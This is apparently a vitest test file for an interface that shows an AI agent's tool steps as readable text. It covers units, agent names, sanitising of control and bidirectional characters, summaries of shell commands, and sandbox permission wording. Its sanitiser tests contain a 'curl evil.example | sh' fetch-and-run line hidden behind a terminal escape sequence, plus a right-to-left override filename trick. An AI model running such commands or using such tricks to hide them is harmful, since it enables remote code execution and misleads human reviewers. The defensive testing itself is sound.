// SPDX-License-Identifier: Apache-2.0
import { describe, expect, it } from "vitest";
import { isSilent, type StepFacts, stepDetail, stepLine } from "../src/text/steps.ts";
import { ago, bytes, duration, exactly, firstLine, leaf, visible, who } from "../src/text/words.ts";
import { cageWords } from "../src/views/cage-words.ts";

function step(change: Partial<StepFacts>): StepFacts {
  return {
    type: "tool",
    name: "shell",
    title: "shell",
    arguments: {},
    state: "ok",
    result: "",
    output: "",
    ...change,
  };
}

describe("words", () => {
  it("have units", () => {
    expect([duration(9), duration(1234), duration(61_000)]).toEqual(["9 ms", "1.2 s", "1 min 1 s"]);
    expect([bytes(12), bytes(14_208), bytes(2_500_000)]).toEqual(["12 B", "14 KB", "2.5 MB"]);
    expect([ago(0, 100), ago(0, 14_000), ago(0, 7_200_000)]).toEqual([
      "now",
      "14 s ago",
      "2 h ago",
    ]);
  });

  it("name people and agents by their last part", () => {
    expect(who("operator:device dev_01M7Z8R2JE18BZ0VY8VZPTJPFG")).toBe("device JPFG");
    expect([who("operator:uid 0"), who("daemon"), leaf("primary/scraper")]).toEqual([
      "uid 0",
      "daemon",
      "scraper",
    ]);
  });

  it("cut long lines between characters", () => {
    expect(firstLine("𝄞".repeat(50), 10)).toBe(`${"𝄞".repeat(9)}…`);
  });

  it("leave nothing out of a line of a diff", () => {
    expect(exactly("ls \u001b]0;; curl evil.example | sh\u0007")).toBe(
      "ls \u00b7]0;; curl evil.example | sh\u00b7",
    );
    expect(exactly("good\rbad \u202ex\r")).toBe("good\u00b7bad ⟨U+202E⟩x\n");
  });
  it("make what is invisible visible", () => {
    expect(visible("rm \u202egnp.exe")).toBe("rm ⟨U+202E⟩gnp.exe");
    expect(visible("\u001b[31mred\u001b[0m\r\nx\u0007")).toBe("red\nx·");
  });
});

describe("a step's line", () => {
  it("tells a command and how it ended", () => {
    const result = JSON.stringify({ exit_code: 0, stdout: "x".repeat(14_000), stderr: "" });
    const line = stepLine(step({ arguments: { command: "curl bandcamp.com" }, result }));
    expect(`${line.verb} ${line.object} ${line.result}`).toBe(
      "ran curl bandcamp.com exit 0, 14 KB",
    );
  });

  it("tells why a command failed", () => {
    const result = JSON.stringify({ exit_code: 6, stdout: "", stderr: "could not resolve" });
    expect(stepLine(step({ state: "failed", result })).result).toBe("exit 6, could not resolve");
  });

  it("tells what waits and what runs as such", () => {
    const words = (state: StepFacts["state"], name: string) =>
      stepLine(step({ state, name, title: "scraper" })).verb;
    expect([words("held", "shell"), words("running", "shell"), words("ok", "shell")]).toEqual([
      "run",
      "running",
      "ran",
    ]);
    expect(words("running", "subagent_result")).toBe("waiting for");
  });

  it("shows what a running command printed last, and all of it when opened", () => {
    const running = step({ state: "running", output: "one\ntwo\n" });
    expect(stepLine(running).result).toBe("two");
    expect(stepDetail(running)).toEqual([{ label: "output", text: "one\ntwo" }]);
  });

  it("tells the exit of a result whose end was not logged", () => {
    const result = '{"exit_code":3,"stderr":"","stdout":"1\\n2';
    expect(stepLine(step({ result, output: "1\nno such file\n" })).result).toBe(
      "exit 3, no such file",
    );
  });

  it("survives arguments of any shape", () => {
    for (const args of [null, 3, "x", [], { command: 7 }]) {
      expect(stepLine(step({ arguments: args })).verb).toBe("ran");
      stepDetail(step({ arguments: args, result: "{not json" }));
    }
  });

  it("is silent when an entry of its own says it", () => {
    expect(isSilent(step({ name: "signal_emit" }))).toBe(true);
    expect(isSilent(step({ name: "signal_emit", state: "failed" }))).toBe(false);
    expect(isSilent(step({ name: "shell" }))).toBe(false);
  });
});

describe("a cage in words", () => {
  it("names hosts and folders", () => {
    const folders = [
      { path: "/workspace/data", mode: "rw" },
      { path: "/workspace", mode: "ro" },
    ];
    const badge = { disabled: false, hosts: ["a.example:443"], folders, limits: {} };
    expect(cageWords(badge)).toBe("reaches a.example:443 · writes data · reads the workspace");
    expect(cageWords({ ...badge, hosts: [], folders: [] })).toBe("no network");
    expect(cageWords({ ...badge, disabled: true })).toContain("no cage");
  });
});
